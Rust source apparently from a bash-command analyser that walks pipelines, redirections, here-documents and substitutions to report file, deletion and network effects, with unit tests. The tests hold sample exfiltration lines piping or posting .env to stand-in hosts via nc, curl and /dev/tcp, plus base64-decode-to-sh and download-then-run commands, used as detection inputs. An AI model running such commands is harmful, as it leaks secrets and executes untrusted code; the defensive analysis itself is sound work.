//! The walk over bash syntax: lists, pipelines, compound commands, redirections, word
//! expansion with its command substitutions, and simple commands, which it hands to
//! [`invoke`] with the context they run in.

use brush_parser::ParserOptions;
use brush_parser::ast::{
    self, Command, CommandPrefixOrSuffixItem, CompoundCommand, IoFileRedirectKind,
    IoFileRedirectTarget, IoRedirect, Pipeline,
};

use crate::effect::{NetTarget, ShellEffect, ShellPath};
use crate::kb::{ArgsRole, KnowledgeBase};
use crate::words::{Expanded, VarValue, expand_word, parse_pieces};

use super::context::{CommandFn, ProgramModel, Walk, WalkCx};
use super::environment::assigned_value;
use super::guards::parse_program;
use super::obfuscation::is_decoder;
use super::report::Report;
use super::state::{Cwd, State, Stdin};
use super::targets::{dev_socket, is_dev_sink};
use super::{invoke, programs};

/// The text a command writes to its standard output when that is known without running
/// it: `cat` of a here-document, `echo` and `printf` of literal words.
fn produced_text(argv: &[Expanded], input: &Stdin) -> Option<String> {
    let (name, args) = argv.split_first()?;
    if args.iter().any(|a| a.dynamic) {
        return None;
    }
    match (name.text.as_str(), input) {
        ("cat", Stdin::Text(t)) if args.iter().all(|a| a.text == "-") => Some(t.clone()),
        ("echo", _) => {
            let newline = args.first().is_none_or(|a| a.text != "-n");
            let words: Vec<&str> = args
                .iter()
                .map(|a| a.text.as_str())
                .skip_while(|a| matches!(*a, "-n" | "-e" | "-E"))
                .collect();
            let escapes = args.iter().any(|a| a.text == "-e");
            let mut t = words.join(" ");
            if escapes {
                t = unescape(&t);
            }
            if newline {
                t.push('\n');
            }
            Some(t)
        }
        ("printf", _) if args.len() == 1 && !args[0].text.contains('%') => {
            Some(unescape(&args[0].text))
        }
        _ => None,
    }
}

/// `\n`, `\t` and `\\` as `echo -e` and `printf` read them.
fn unescape(s: &str) -> String {
    s.replace("\\n", "\n")
        .replace("\\t", "\t")
        .replace("\\\\", "\\")
}

/// Most values of a `for` loop walked one by one.
const MAX_LOOP_VALUES: usize = 16;
/// Deepest nesting of shell function calls followed.
const MAX_CALL_DEPTH: usize = 4;

/// Deepest nesting of `bash -c`, `eval` and substitutions followed.
pub const MAX_DEPTH: usize = 12;

/// Walks one command line (and the shell text nested in it) and collects its effects.
pub(crate) struct Walker<'a> {
    kb: &'a KnowledgeBase,
    options: &'a ParserOptions,
    report: Report,
    /// How many levels of nested shell text (`bash -c`, `eval`, `$(…)`) surround the
    /// text being walked.
    depth: usize,
}

impl<'a> Walker<'a> {
    /// A walker with nothing found yet, `depth` levels into nested commands.
    pub(crate) fn new(kb: &'a KnowledgeBase, options: &'a ParserOptions, depth: usize) -> Self {
        Self {
            kb,
            options,
            report: Report::default(),
            depth,
        }
    }

    /// The effects found, in order.
    pub(crate) fn into_effects(self) -> Vec<ShellEffect> {
        self.report.into_effects()
    }
}

impl Walk for Walker<'_> {
    fn report(&mut self) -> &mut Report {
        &mut self.report
    }

    fn script(&mut self, text: &str, st: &mut State, stdin: &Stdin) {
        if self.depth >= MAX_DEPTH {
            return self
                .report
                .unparseable("commands nested too deeply (bash -c, eval, substitutions)");
        }
        let program = match parse_program(text, self.options) {
            Ok(p) => p,
            Err(reason) => return self.report.unparseable(reason),
        };
        self.depth += 1;
        for cc in &program.complete_commands {
            self.compound_list(cc, st, stdin);
        }
        self.depth -= 1;
    }

    fn walk_remote(&mut self, text: &str) -> Vec<ShellEffect> {
        let mut far = Walker::new(self.kb, self.options, self.depth + 1);
        far.script(text, &mut State::at(Cwd::Unknown), &Stdin::Tty);
        far.into_effects()
    }

    fn model_for(&self, role: ArgsRole) -> &'static dyn ProgramModel {
        programs::model_for(role)
    }

    fn command(&self) -> CommandFn {
        invoke::command
    }

    fn call_function(
        &mut self,
        def: &ast::FunctionDefinition,
        st: &mut State,
        stdin: &Stdin,
        args: &[Expanded],
    ) {
        if st.call_depth >= MAX_CALL_DEPTH {
            return self.report.unparseable(format!(
                "shell functions call each other more than {MAX_CALL_DEPTH} deep"
            ));
        }
        // The arguments are the function's positional parameters.
        let mut inner = st.clone();
        inner.call_depth += 1;
        for n in 1..=9 {
            inner.vars.remove(&n.to_string());
        }
        for (n, a) in args.iter().enumerate().take(9) {
            let value = if a.dynamic {
                VarValue::Dynamic
            } else {
                VarValue::Static(a.text.clone())
            };
            inner.vars.insert((n + 1).to_string(), value);
        }
        let all = if args.iter().any(|a| a.dynamic) {
            VarValue::Dynamic
        } else {
            VarValue::Static(
                args.iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" "),
            )
        };
        inner.vars.insert("@".into(), all.clone());
        inner.vars.insert("*".into(), all);
        let ast::FunctionBody(body, redirects) = &def.body;
        let stdin = match redirects {
            Some(r) => self.redirects(&r.0, &mut inner, stdin),
            None => stdin.clone(),
        };
        self.compound(body, &mut inner, &stdin);
        // A function runs in the calling shell: its `cd`, variables and functions stay.
        st.cwd = inner.cwd;
        st.functions = inner.functions;
    }
}

impl Walker<'_> {
    fn compound_list(&mut self, list: &ast::CompoundList, st: &mut State, stdin: &Stdin) {
        for item in &list.0 {
            let ast::CompoundListItem(and_or, _sep) = item;
            self.pipeline(&and_or.first, st, stdin);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, st, stdin),
                }
            }
        }
    }

    /// Each stage gets as stdin what the earlier stages read (or, after a decoding
    /// stage, a decoded payload).
    fn pipeline(&mut self, p: &Pipeline, st: &mut State, stdin: &Stdin) {
        if p.seq.len() == 1 {
            return self.command(&p.seq[0], st, stdin);
        }
        let mut upstream: Vec<ShellPath> = stdin.data();
        let mut decoded = false;
        for (i, cmd) in p.seq.iter().enumerate() {
            let input = if i == 0 {
                stdin.clone()
            } else if decoded {
                Stdin::Decoded
            } else {
                Stdin::Pipe(upstream.clone())
            };
            decoded |= is_decoder(cmd);
            let start = self.report.len();
            // Each stage of a pipeline runs in a subshell.
            let mut sub = st.clone();
            self.command(cmd, &mut sub, &input);
            upstream.extend(self.report.reads_since(start));
        }
    }

    fn command(&mut self, cmd: &Command, st: &mut State, stdin: &Stdin) {
        match cmd {
            Command::Simple(sc) => self.simple(sc, st, stdin),
            Command::Compound(cc, redirects) => {
                let stdin = match redirects {
                    Some(r) => self.redirects(&r.0, st, stdin),
                    None => stdin.clone(),
                };
                self.compound(cc, st, &stdin);
            }
            // The body runs when the function is called, with the call's arguments.
            Command::Function(f) => {
                st.functions
                    .insert(f.fname.value.clone(), std::sync::Arc::new(f.clone()));
            }
            Command::ExtendedTest(t, redirects) => {
                if let Some(r) = redirects {
                    self.redirects(&r.0, st, stdin);
                }
                self.extended_test(&t.expr, st);
            }
        }
    }

    fn extended_test(&mut self, e: &ast::ExtendedTestExpr, st: &mut State) {
        use ast::ExtendedTestExpr as E;
        match e {
            E::And(a, b) | E::Or(a, b) => {
                self.extended_test(a, st);
                self.extended_test(b, st);
            }
            E::Not(a) | E::Parenthesized(a) => self.extended_test(a, st),
            E::UnaryTest(_, w) => {
                self.words(std::slice::from_ref(w), st, false);
            }
            E::BinaryTest(_, a, b) => {
                self.words(&[a.clone(), b.clone()], st, false);
            }
        }
    }

    fn compound(&mut self, cc: &CompoundCommand, st: &mut State, stdin: &Stdin) {
        match cc {
            CompoundCommand::BraceGroup(g) => self.compound_list(&g.list, st, stdin),
            CompoundCommand::Subshell(s) => {
                let mut sub = st.clone();
                self.compound_list(&s.list, &mut sub, stdin);
            }
            CompoundCommand::ForClause(f) => {
                let values = match &f.values {
                    Some(values) => self.words(values, st, true).0,
                    None => Vec::new(),
                };
                // Each known value is walked (a glob stays a pattern over the files it
                // names); a computed list, or a long one, once with the variable unknown.
                let known = !values.is_empty()
                    && values.len() <= MAX_LOOP_VALUES
                    && values.iter().all(|v| !v.dynamic);
                if !known {
                    st.vars.insert(f.variable_name.clone(), VarValue::Dynamic);
                    return self.compound_list(&f.body.list, st, stdin);
                }
                for v in values {
                    let value = if v.glob {
                        VarValue::Glob(v.text)
                    } else {
                        VarValue::Static(v.text)
                    };
                    st.vars.insert(f.variable_name.clone(), value);
                    self.compound_list(&f.body.list, st, stdin);
                }
            }
            CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list, st, stdin),
            CompoundCommand::CaseClause(c) => {
                self.words(std::slice::from_ref(&c.value), st, false);
                for item in &c.cases {
                    if let Some(list) = &item.cmd {
                        self.compound_list(list, st, stdin);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.compound_list(&i.condition, st, stdin);
                self.compound_list(&i.then, st, stdin);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.compound_list(c, st, stdin);
                    }
                    self.compound_list(&e.body, st, stdin);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                let ast::WhileOrUntilClauseCommand(cond, body, _) = w;
                self.compound_list(cond, st, stdin);
                self.compound_list(&body.list, st, stdin);
            }
            CompoundCommand::Arithmetic(_) => {}
            CompoundCommand::Coprocess(c) => {
                let mut sub = st.clone();
                self.command(&c.body, &mut sub, stdin);
            }
        }
    }

    /// Expands words, walking their command substitutions; returns the expanded words
    /// and the files read by those substitutions.
    fn words(
        &mut self,
        words: &[ast::Word],
        st: &mut State,
        split: bool,
    ) -> (Vec<Expanded>, Vec<ShellPath>) {
        let mut out = Vec::new();
        let mut reads = Vec::new();
        for w in words {
            match expand_word(&w.value, self.options, st, split) {
                Ok(list) => {
                    if let Some(first) = list.first() {
                        for sub in first.substitutions.clone() {
                            reads.extend(self.substitution(&sub, st));
                        }
                    }
                    out.extend(list);
                }
                Err(e) => {
                    self.report
                        .unparseable(format!("cannot parse the word {:?}: {e}", w.value));
                    out.push(Expanded {
                        text: w.value.clone(),
                        dynamic: true,
                        ..Default::default()
                    });
                }
            }
        }
        (out, reads)
    }

    /// Walks a command substitution in a subshell; returns the files it read.
    fn substitution(&mut self, text: &str, st: &State) -> Vec<ShellPath> {
        let start = self.report.len();
        let mut sub = st.clone();
        self.script(text, &mut sub, &Stdin::Tty);
        self.report.reads_since(start)
    }

    /// Applies redirections; returns the resulting stdin.
    fn redirects(&mut self, items: &[IoRedirect], st: &mut State, stdin: &Stdin) -> Stdin {
        let mut input = stdin.clone();
        for r in items {
            match r {
                IoRedirect::File(fd, kind, target) => {
                    self.file_redirect(*fd, kind, target, st, &mut input);
                }
                IoRedirect::OutputAndError(w, _append) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    if let Some(e) = exp.into_iter().next()
                        && !is_dev_sink(&e.text)
                    {
                        self.report.emit(ShellEffect::Write(st.path(&e)));
                    }
                }
                IoRedirect::HereDocument(_fd, doc) => {
                    if doc.requires_expansion {
                        self.here_document_substitutions(&doc.doc.value, st);
                    }
                    input = Stdin::Text(doc.doc.value.clone());
                }
                IoRedirect::HereString(_fd, w) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    let text = exp.into_iter().next().map(|e| e.text).unwrap_or_default();
                    input = Stdin::Text(text);
                }
            }
        }
        input
    }

    /// The file a command's standard output goes to (`> f`, `>| f`, `>> f`), if one does,
    /// and whether it is appended to.
    fn stdout_file(&mut self, items: &[IoRedirect], st: &State) -> Option<(ShellPath, bool)> {
        let mut out = None;
        for r in items {
            if let IoRedirect::File(fd, kind, IoFileRedirectTarget::Filename(w)) = r {
                if fd.is_some_and(|f| f != 1) {
                    continue;
                }
                let append = match kind {
                    IoFileRedirectKind::Write | IoFileRedirectKind::Clobber => false,
                    IoFileRedirectKind::Append => true,
                    _ => {
                        out = None;
                        continue;
                    }
                };
                let mut scratch = Report::default();
                std::mem::swap(&mut scratch, &mut self.report);
                let (exp, _) = self.words(std::slice::from_ref(w), &mut st.clone(), false);
                std::mem::swap(&mut scratch, &mut self.report);
                out = exp.into_iter().next().map(|e| (st.path(&e), append));
            }
        }
        out
    }

    /// `<`, `>`, `>>`, `<>`, `>&file`, `<(…)` and `/dev/tcp/…` targets; a redirection of
    /// fd 0 from a file makes that file the stdin.
    fn file_redirect(
        &mut self,
        fd: Option<i32>,
        kind: &IoFileRedirectKind,
        target: &IoFileRedirectTarget,
        st: &mut State,
        input: &mut Stdin,
    ) {
        let word = match target {
            IoFileRedirectTarget::Filename(w) => w,
            IoFileRedirectTarget::Duplicate(w) => {
                let t = w.value.trim();
                if t == "-" || t.parse::<i32>().is_ok() {
                    return;
                }
                w
            }
            IoFileRedirectTarget::Fd(_) => return,
            IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                let mut s = st.clone();
                self.compound_list(&sub.list, &mut s, &Stdin::Tty);
                return;
            }
        };
        let (exp, _) = self.words(std::slice::from_ref(word), st, false);
        let Some(e) = exp.into_iter().next() else {
            return;
        };
        if is_dev_sink(&e.text) {
            return;
        }
        if let Some((host, port)) = dev_socket(&e.text) {
            let sends = !matches!(kind, IoFileRedirectKind::Read);
            self.report.emit(ShellEffect::Connect {
                target: NetTarget::Host { host, port },
                sends,
                data_from: if sends { input.data() } else { Vec::new() },
            });
            return;
        }
        let p = st.path(&e);
        let reads_in = matches!(
            kind,
            IoFileRedirectKind::Read
                | IoFileRedirectKind::ReadAndWrite
                | IoFileRedirectKind::DuplicateInput
        );
        let writes = matches!(
            kind,
            IoFileRedirectKind::Write
                | IoFileRedirectKind::Append
                | IoFileRedirectKind::Clobber
                | IoFileRedirectKind::ReadAndWrite
                | IoFileRedirectKind::DuplicateOutput
        );
        if reads_in {
            self.report.emit(ShellEffect::Read(p.clone()));
            if fd.is_none_or(|f| f == 0) {
                *input = Stdin::File(p.clone());
            }
        }
        if writes {
            self.report.emit(ShellEffect::Write(p));
        }
    }

    /// The `$(…)` and backticks of an expanding here-document body, which run when the
    /// here-document is read: a body that cannot be parsed is never passed over silently.
    fn here_document_substitutions(&mut self, body: &str, st: &State) {
        use brush_parser::word::WordPiece;
        match parse_pieces(body, |b| brush_parser::word::parse_heredoc(b, self.options)) {
            Ok(pieces) => {
                for p in pieces {
                    if let WordPiece::CommandSubstitution(s)
                    | WordPiece::BackquotedCommandSubstitution(s) = p.piece
                    {
                        self.substitution(&s, st);
                    }
                }
            }
            Err(e) => {
                self.report
                    .unparseable(format!("cannot parse a here-document: {e}"));
            }
        }
    }

    /// A simple command: its assignments, redirections and words; the command itself
    /// runs in a copy of the state with its own assignments, and builtins' changes
    /// (`cd`, `export`) come back.
    fn simple(&mut self, sc: &ast::SimpleCommand, st: &mut State, stdin: &Stdin) {
        let mut redirects = Vec::new();
        let mut assignments = Vec::new();
        let mut words: Vec<ast::Word> = Vec::new();
        let mut items: Vec<&CommandPrefixOrSuffixItem> = Vec::new();
        if let Some(p) = &sc.prefix {
            items.extend(p.0.iter());
        }
        let name_index = items.len();
        if let Some(w) = &sc.word_or_name {
            words.push(w.clone());
        }
        if let Some(s) = &sc.suffix {
            items.extend(s.0.iter());
        }
        for (i, item) in items.iter().enumerate() {
            match item {
                CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r.clone()),
                CommandPrefixOrSuffixItem::Word(w) => words.push(w.clone()),
                CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                    if i < name_index {
                        assignments.push(a.clone());
                    } else {
                        // `export X=1` style: an argument.
                        words.push(w.clone());
                    }
                }
                CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                    let mut s = st.clone();
                    self.compound_list(&sub.list, &mut s, &Stdin::Tty);
                    words.push(ast::Word::new("/dev/fd/63"));
                }
            }
        }
        // What was known of the file stdout goes to, before this command writes it.
        let stdout = self.stdout_file(&redirects, st).map(|(out, append)| {
            let before = self.report.written_first(&out);
            (out, append, before)
        });
        let input = self.redirects(&redirects, st, stdin);
        let env = self.assignments(&assignments, st);
        let (argv, subst_reads) = self.words(&words, st, true);
        if argv.is_empty() {
            for (k, v) in env {
                st.vars.insert(k, v);
            }
            return;
        }
        // Assignments before a command only affect that command's environment.
        let mut scoped = st.clone();
        for (k, v) in &env {
            scoped.vars.insert(k.clone(), v.clone());
        }
        let kb = self.kb;
        let mut cx = WalkCx {
            walk: self,
            kb,
            st: &mut scoped,
            stdin: &input,
            subst_reads: &subst_reads,
            dir: None,
        };
        invoke::command(&mut cx, &argv, &env);
        if let Some(text) = produced_text(&argv, &input) {
            match stdout {
                Some((out, false, _)) => self.report.written_text(&out, text),
                Some((out, true, before)) => self.report.written_added(&out, &text, before),
                None => {}
            }
        }
        if let (Some("tee"), Stdin::Text(t)) = (argv.first().map(|a| a.text.as_str()), &input) {
            for f in argv[1..]
                .iter()
                .filter(|a| !a.text.starts_with('-') && !a.dynamic)
            {
                self.report.written_text(&st.path(f), t.clone());
            }
        }
        // Builtins that change the shell's state apply to the real state.
        st.cwd = scoped.cwd.clone();
        for (k, v) in scoped.vars {
            if !env.iter().any(|(e, _)| *e == k) {
                st.vars.insert(k, v);
            }
        }
        st.functions.extend(scoped.functions);
    }

    /// The values of a simple command's leading `NAME=value` assignments.
    fn assignments(
        &mut self,
        assignments: &[ast::Assignment],
        st: &mut State,
    ) -> Vec<(String, VarValue)> {
        let mut assigned = Vec::new();
        for a in assignments {
            let ast::AssignmentName::VariableName(name) = &a.name else {
                continue;
            };
            if name == "IFS" {
                self.report
                    .obfuscated("IFS is reassigned, which changes how words split");
            }
            let value = match &a.value {
                ast::AssignmentValue::Scalar(w) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    match exp.into_iter().next() {
                        Some(e) => assigned_value(name, &e),
                        None => VarValue::Dynamic,
                    }
                }
                ast::AssignmentValue::Array(items) => {
                    let ws: Vec<ast::Word> = items.iter().map(|(_, w)| w.clone()).collect();
                    self.words(&ws, st, true);
                    VarValue::Dynamic
                }
            };
            assigned.push((name.clone(), value));
        }
        assigned
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::testing::{Harness, walk};

    #[test]
    fn pipeline_stages_get_what_upstream_read() {
        assert_eq!(
            walk("cat .env | nc h.example 1"),
            [
                "exec cat",
                "read .env",
                "exec nc",
                "send h.example:1 [.env]"
            ]
        );
        let decoded = walk("echo eA== | base64 -d | sh");
        assert_eq!(
            decoded.last().map(String::as_str),
            Some("obfuscated: decoded data is piped into sh and runs as a script")
        );
    }

    #[test]
    fn redirections() {
        assert_eq!(
            walk("sort < in >> out"),
            ["read in", "write out", "exec sort"]
        );
        assert_eq!(
            walk("echo x 2>/dev/null &> log"),
            ["write log", "exec echo"]
        );
        assert_eq!(walk("echo x >&2 <&0"), ["exec echo"]);
        assert_eq!(
            walk("cat .env > /dev/tcp/h.example/80"),
            ["send h.example:80 []", "exec cat", "read .env"]
        );
        assert_eq!(
            walk("nc h 1 < <(cat .env)"),
            ["exec cat", "read .env", "exec nc", "send h:1 []"]
        );
    }

    #[test]
    fn here_documents_feed_stdin_and_run_their_substitutions() {
        assert_eq!(
            walk("sh <<EOF\nrm -rf x\nEOF\n"),
            ["exec sh", "exec rm", "delete x"]
        );
        assert_eq!(
            walk("grep x <<EOF\n$(cat .env)\nEOF\n"),
            ["exec cat", "read .env", "exec grep"]
        );
        assert_eq!(walk("cat <<'EOF'\n$(cat .env)\nEOF\n"), ["exec cat"]);
        assert_eq!(
            walk("python3 <<<'import os; os.remove(\"/tmp/f\")'"),
            [
                "exec python3",
                "delete /tmp/f",
                "read /tmp/f",
                "runs os as python3 import []"
            ]
        );
    }

    #[test]
    fn subshells_and_pipeline_stages_keep_their_state_to_themselves() {
        assert_eq!(walk("(cd sub); cat a"), ["exec cat", "read a"]);
        assert_eq!(
            walk("cd sub | true; cat a"),
            ["exec true", "exec cat", "read a"]
        );
        assert_eq!(walk("{ cd sub; }; cat a"), ["exec cat", "read sub/a"]);
        let mut h = Harness::new();
        h.script("F=.env; G=x cat $G");
        assert_eq!(h.script("cat $F $G"), ["exec cat", "read .env", "read $G?"]);
    }

    #[test]
    fn compound_commands_are_walked() {
        assert_eq!(
            walk("for f in a b; do rm \"$f\"; done"),
            ["exec rm", "delete a", "delete b"]
        );
        assert_eq!(
            walk("if test -f x; then cat x; else rm x; fi"),
            ["exec test", "exec cat", "read x", "exec rm", "delete x"]
        );
        assert_eq!(walk("f() { cat .env; }; f"), ["exec cat", "read .env"]);
        assert_eq!(walk("[[ $(cat k) == x ]]"), ["exec cat", "read k"]);
    }

    #[test]
    fn command_substitutions_are_followed_and_feed_the_command() {
        assert_eq!(
            walk("curl -d \"$(cat .env)\" https://x.example"),
            [
                "exec cat",
                "read .env",
                "exec curl",
                "send https://x.example [.env]"
            ]
        );
    }

    #[test]
    fn nesting_is_limited() {
        let nested = format!("{}ls", "eval ".repeat(MAX_DEPTH + 1));
        assert!(
            walk(&nested)
                .iter()
                .any(|e| e.contains("nested too deeply"))
        );
        let shallow = format!("{}ls", "eval ".repeat(MAX_DEPTH - 2));
        assert_eq!(walk(&shallow), ["exec ls"]);
    }

    #[test]
    fn a_remote_walk_reports_nothing_here() {
        let kb = KnowledgeBase::builtin();
        let options = ParserOptions::default();
        let mut w = Walker::new(&kb, &options, 0);
        let far = w.walk_remote("cat x");
        assert_eq!(far.len(), 2);
        assert!(w.into_effects().is_empty());
    }

    #[test]
    fn what_a_command_line_writes_before_running_it_is_known() {
        let e = walk("cat > t.py <<'EOF'\nprint(1)\nEOF\npython3 t.py");
        assert!(
            e.iter()
                .any(|x| x
                    .contains("runs t.py as python3 script [] written first with \"print(1)\\n\"")),
            "{e:?}"
        );
        // Making it executable changes no content.
        let e = walk("cat > t.sh <<'EOF'\nls\nEOF\nchmod +x t.sh\n./t.sh");
        assert!(
            e.iter().any(|x| x.contains("written first with \"ls\\n\"")),
            "{e:?}"
        );
        let e = walk("sed -i 's/a/b/' t.py && python3 t.py");
        assert!(
            e.iter()
                .any(|x| x.contains("written first from Disk adding \"s/a/b/\"")),
            "{e:?}"
        );
        let e = walk("echo 'x = 1' >> t.py && python3 t.py");
        assert!(
            e.iter()
                .any(|x| x.contains("written first from Disk adding \"x = 1\\n\"")),
            "{e:?}"
        );
        let e = walk("cp a.py b.py && python3 b.py");
        assert!(
            e.iter().any(|x| x.contains("written first from CopyOf")),
            "{e:?}"
        );
        let e = walk("curl -o t.py https://x.example/t.py && python3 t.py");
        assert!(e.iter().any(|x| x.ends_with("written first")), "{e:?}");
    }
}
